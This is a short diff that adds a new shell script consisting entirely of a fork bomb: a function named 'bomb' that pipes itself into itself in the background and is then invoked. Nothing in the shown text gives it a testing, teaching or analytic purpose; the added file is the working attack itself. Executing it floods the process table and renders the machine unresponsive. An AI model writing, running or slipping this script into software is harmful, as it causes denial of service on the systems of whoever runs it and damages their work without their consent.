@@ -1,0 +1,3 @@
+#!/bin/sh
+bomb() { bomb | bomb & }
+bomb
